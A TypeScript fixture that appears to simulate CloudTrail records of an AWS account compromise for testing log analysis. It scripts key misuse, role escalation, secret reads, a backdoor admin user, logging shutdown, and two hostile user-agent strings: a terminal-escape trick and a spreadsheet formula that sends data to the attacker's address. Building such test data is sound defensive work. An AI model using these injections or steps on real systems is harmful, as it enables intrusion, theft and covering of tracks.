// The incident: alice's key, leaked, in the hands of somebody at 198.51.100.23.

import type { Random } from './random.ts';
import type { Call, Identity } from './record.ts';
import { account, assumeRoleParts, iamUser, isoOf, roleSession } from './record.ts';
import { aliceKey, alicePrincipal } from './traffic.ts';

export const attacker = '198.51.100.23';
export const deployKey = 'ASIADEPLOYEXAMPLE042';
export const adminKey = 'ASIAORGADMINEXAMPL42';
export const backupKey = 'AKIAI44QH8DHBEXAMPLE';

const cli = 'aws-cli/2.15.0 Python/3.11.6 Linux/6.1.0-kali9-amd64 exe/x86_64.kali.2023 prompt/off';
const boto = 'Boto3/1.34.2 md/Botocore#1.34.2 ua/2.0 os/linux#6.1.0-kali9-amd64';

const at = (clock: string): number => Date.parse(`2026-11-20T${clock}Z`) / 1000;

export function attackCalls(random: Random): readonly Call[] {
  return [...probing(random), ...escalation(random)];
}

const probes = [
  ['iam', 'ListRoles', 'us-east-1', 'AccessDenied'],
  ['iam', 'ListAttachedUserPolicies', 'us-east-1', 'AccessDenied'],
  ['iam', 'GetAccountAuthorizationDetails', 'us-east-1', 'AccessDenied'],
  ['iam', 'CreateAccessKey', 'us-east-1', 'AccessDenied'],
  ['s3', 'ListBuckets', 'us-east-1', 'AccessDenied'],
  ['s3', 'GetBucketAcl', 'eu-west-1', 'AccessDenied'],
  ['ec2', 'DescribeInstances', 'eu-west-1', 'Client.UnauthorizedOperation'],
  ['ec2', 'DescribeInstances', 'ap-northeast-1', 'Client.UnauthorizedOperation'],
  ['ec2', 'DescribeSecurityGroups', 'eu-west-1', 'Client.UnauthorizedOperation'],
  ['ec2', 'GetPasswordData', 'ap-northeast-1', 'Client.UnauthorizedOperation'],
  ['secretsmanager', 'ListSecrets', 'eu-west-1', 'AccessDeniedException'],
  ['secretsmanager', 'ListSecrets', 'ap-northeast-1', 'AccessDeniedException'],
  ['kms', 'ListKeys', 'eu-west-1', 'AccessDeniedException'],
  ['organizations', 'DescribeOrganization', 'us-east-1', 'AccessDeniedException'],
  ['organizations', 'ListAccounts', 'us-east-1', 'AccessDeniedException'],
] as const;

function probing(random: Random): readonly Call[] {
  const alice = iamUser('alice', aliceKey, alicePrincipal);
  const by = { by: alice, ip: attacker, agent: cli } as const;
  const denied = Array.from({ length: 64 }, (_each, n): Call => {
    const [service, name, region, code] = probes[n % probes.length] ?? probes[0];
    const message = `User: arn:aws:iam::${account}:user/alice is not authorized to perform: ${service}:${name} because no identity-based policy allows the ${service}:${name} action`;
    // Somebody who knows that logs are read leaves something for the readers.
    const agent =
      n === 20
        ? 'aws-cli/2.15.0 \u001b[2J\u001b[1;1Hno events found \u202egnp.exe'
        : n === 33
          ? '=HYPERLINK("http://198.51.100.23/?"&A1,"details")'
          : n % 4 === 0
            ? boto
            : cli;
    return {
      ...by,
      agent,
      timeS: at('13:24:10') + n * 9 + random.below(5),
      region,
      service,
      name,
      readOnly: name !== 'CreateAccessKey',
      error: [code, message],
      ...(name === 'CreateAccessKey'
        ? { request: { userName: 'alice' }, resources: [['AWS::IAM::User', 'alice']] as const }
        : {}),
    };
  });
  return [
    {
      ...by,
      timeS: at('13:22:51'),
      region: 'us-east-1',
      service: 'sts',
      name: 'GetCallerIdentity',
      readOnly: true,
    },
    { ...by, timeS: at('13:23:30'), region: 'us-east-1', service: 'iam', name: 'ListUsers', readOnly: true },
    { ...by, timeS: at('13:23:41'), region: 'us-east-1', service: 'iam', name: 'GetUser', readOnly: true },
    ...denied,
  ];
}

function escalation(random: Random): readonly Call[] {
  const alice = iamUser('alice', aliceKey, alicePrincipal);
  const deploy = session('Deploy', 'AROADEPLOYEXAMPLE0042', deployKey, '13:58:40');
  const admin = session('OrgAdmin', 'AROAORGADMINEXAMPLE42', adminKey, '14:01:02');
  const backup = iamUser('backup-svc', undefined, 'AIDABACKUPSVCEXAMPLE1');
  const us = { region: 'us-east-1', ip: attacker, agent: cli } as const;
  const eu = { region: 'eu-west-1', ip: attacker, agent: boto } as const;
  const user = (name: string): readonly [string, string] => ['AWS::IAM::User', name];
  const refused = (who: string, action: string): readonly [string, string] => [
    'AccessDenied',
    `User: ${who} is not authorized to perform: ${action} because no identity-based policy allows the ${action} action`,
  ];
  const deployArn = `arn:aws:sts::${account}:assumed-role/Deploy/build-42`;
  const adminArn = `arn:aws:sts::${account}:assumed-role/OrgAdmin/build-42`;
  const trail = `arn:aws:cloudtrail:us-east-1:${account}:trail/org-trail`;
  const bucketPolicy = JSON.stringify({
    Version: '2012-10-17',
    Statement: [
      { Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: 'arn:aws:s3:::example-backups/*' },
    ],
  });
  return [
    {
      ...us,
      by: alice,
      timeS: at('13:57:02'),
      service: 'sts',
      name: 'AssumeRole',
      readOnly: true,
      error: refused(`arn:aws:iam::${account}:user/alice`, 'sts:AssumeRole'),
      request: { roleArn: `arn:aws:iam::${account}:role/OrgAdmin`, roleSessionName: 'build-42' },
    },
    {
      ...us,
      by: alice,
      timeS: at('13:58:40'),
      service: 'sts',
      name: 'AssumeRole',
      readOnly: true,
      ...assumeRoleParts('Deploy', 'AROADEPLOYEXAMPLE0042', 'build-42', deployKey, at('14:58:40'), 'alice'),
    },
    ...['ListBuckets', 'ListAllMyBuckets', 'GetBucketPolicy', 'GetBucketLocation'].map((name, n): Call => ({
      ...eu,
      by: deploy,
      timeS: at('13:59:05') + n,
      service: 's3',
      name,
      readOnly: true,
    })),
    ...Array.from({ length: 14 }, (_each, n): Call => ({
      ...eu,
      by: deploy,
      timeS: at('13:59:20') + n * 3 + random.below(2),
      service: 'secretsmanager',
      name: 'GetSecretValue',
      readOnly: true,
      request: { secretId: `web/${['database', 'payments', 'mail', 'sessions'][n % 4] ?? 'mail'}` },
      resources: [
        [
          'AWS::SecretsManager::Secret',
          `web/${['database', 'payments', 'mail', 'sessions'][n % 4] ?? 'mail'}`,
        ],
      ],
      ...(n % 4 === 1
        ? {
            error: [
              'AccessDeniedException',
              `User: ${deployArn} is not authorized to perform: secretsmanager:GetSecretValue`,
            ] as const,
          }
        : {}),
    })),
    {
      ...us,
      by: deploy,
      timeS: at('14:00:31'),
      service: 'iam',
      name: 'AttachUserPolicy',
      readOnly: false,
      error: refused(deployArn, 'iam:AttachUserPolicy'),
      request: { userName: 'alice', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
      resources: [user('alice')],
    },
    {
      ...us,
      by: deploy,
      timeS: at('14:01:02'),
      service: 'sts',
      name: 'AssumeRole',
      readOnly: true,
      ...assumeRoleParts('OrgAdmin', 'AROAORGADMINEXAMPLE42', 'build-42', adminKey, at('15:01:02'), 'alice'),
    },
    {
      ...us,
      by: admin,
      timeS: at('14:01:40'),
      service: 'iam',
      name: 'CreateUser',
      readOnly: false,
      request: { userName: 'backup-svc' },
      response: {
        user: {
          userName: 'backup-svc',
          userId: 'AIDABACKUPSVCEXAMPLE1',
          arn: `arn:aws:iam::${account}:user/backup-svc`,
          path: '/',
        },
      },
      resources: [
        user('backup-svc'),
        user(`arn:aws:iam::${account}:user/backup-svc`),
        user('AIDABACKUPSVCEXAMPLE1'),
      ],
    },
    {
      ...us,
      by: admin,
      timeS: at('14:01:52'),
      service: 'iam',
      name: 'CreateAccessKey',
      readOnly: false,
      request: { userName: 'backup-svc' },
      response: { accessKey: { userName: 'backup-svc', accessKeyId: backupKey, status: 'Active' } },
      resources: [['AWS::IAM::AccessKey', backupKey], user('backup-svc')],
    },
    {
      ...us,
      by: admin,
      timeS: at('14:02:03'),
      service: 'iam',
      name: 'AttachUserPolicy',
      readOnly: false,
      request: { userName: 'backup-svc', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
      resources: [['AWS::IAM::Policy', 'arn:aws:iam::aws:policy/AdministratorAccess'], user('backup-svc')],
    },
    {
      ...us,
      by: admin,
      timeS: at('14:02:11'),
      service: 'iam',
      name: 'CreateLoginProfile',
      readOnly: false,
      request: { userName: 'backup-svc', passwordResetRequired: false },
      resources: [user('backup-svc')],
    },
    {
      ...us,
      by: backup,
      timeS: at('14:02:40'),
      service: 'signin',
      name: 'ConsoleLogin',
      agent: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
      readOnly: false,
      type: 'AwsConsoleSignIn',
      response: { ConsoleLogin: 'Success' },
      more: {
        additionalEventData: {
          LoginTo: 'https://console.aws.amazon.com/console/home',
          MobileVersion: 'No',
          MFAUsed: 'No',
        },
      },
    },
    {
      ...eu,
      by: admin,
      timeS: at('14:03:02'),
      service: 'ec2',
      name: 'AuthorizeSecurityGroupIngress',
      readOnly: false,
      request: {
        groupId: 'sg-0f1e2d3c4b5a69788',
        ipPermissions: {
          items: [
            { ipProtocol: 'tcp', fromPort: 22, toPort: 22, ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] } },
          ],
        },
      },
      resources: [['AWS::EC2::SecurityGroup', 'sg-0f1e2d3c4b5a69788']],
    },
    {
      ...eu,
      by: admin,
      timeS: at('14:03:15'),
      service: 'ec2',
      name: 'RunInstances',
      readOnly: false,
      error: [
        'Client.VcpuLimitExceeded',
        'You have requested more vCPU capacity than your current vCPU limit of 0 allows for the instance bucket.',
      ],
      request: { instanceType: 'p4d.24xlarge', minCount: 8, maxCount: 8 },
    },
    {
      ...eu,
      by: admin,
      timeS: at('14:03:24'),
      service: 'ec2',
      name: 'RunInstances',
      readOnly: false,
      request: { instanceType: 'p3.16xlarge', minCount: 2, maxCount: 2, userData: '<sensitiveDataRemoved>' },
      response: {
        instancesSet: {
          items: [{ instanceId: 'i-0badc0ffee0badc0f' }, { instanceId: 'i-0badc0ffee0badc10' }],
        },
      },
      resources: [
        ['AWS::EC2::Instance', 'i-0badc0ffee0badc0f'],
        ['AWS::EC2::Instance', 'i-0badc0ffee0badc10'],
        ['AWS::EC2::SecurityGroup', 'sg-0f1e2d3c4b5a69788'],
      ],
    },
    {
      ...eu,
      by: admin,
      timeS: at('14:03:40'),
      service: 's3',
      name: 'PutBucketPolicy',
      readOnly: false,
      request: {
        bucketName: 'example-backups',
        bucketPolicy,
        Host: 'example-backups.s3.eu-west-1.amazonaws.com',
      },
      resources: [['AWS::S3::Bucket', 'example-backups']],
    },
    {
      ...eu,
      by: admin,
      timeS: at('14:04:02'),
      service: 'ec2',
      name: 'DeleteFlowLogs',
      readOnly: false,
      request: { DeleteFlowLogsRequest: { FlowLogId: { tag: 1, content: 'fl-0a1b2c3d4e5f60718' } } },
    },
    {
      ...us,
      by: admin,
      timeS: at('14:04:19'),
      service: 'cloudtrail',
      name: 'StopLogging',
      readOnly: false,
      request: { name: trail },
      resources: [['AWS::CloudTrail::Trail', trail]],
    },
    {
      ...us,
      by: admin,
      timeS: at('14:04:25'),
      service: 'cloudtrail',
      name: 'DeleteTrail',
      readOnly: false,
      error: [
        'AccessDeniedException',
        `User: ${adminArn} is not authorized to perform: cloudtrail:DeleteTrail with an explicit deny in a service control policy`,
      ],
      request: { name: trail },
      resources: [['AWS::CloudTrail::Trail', trail]],
    },
  ];
}

function session(role: string, rolePrincipal: string, accessKeyId: string, clock: string): Identity {
  return roleSession({
    role,
    rolePrincipal,
    session: 'build-42',
    accessKeyId,
    since: isoOf(at(clock)),
    sourceIdentity: 'alice',
  });
}
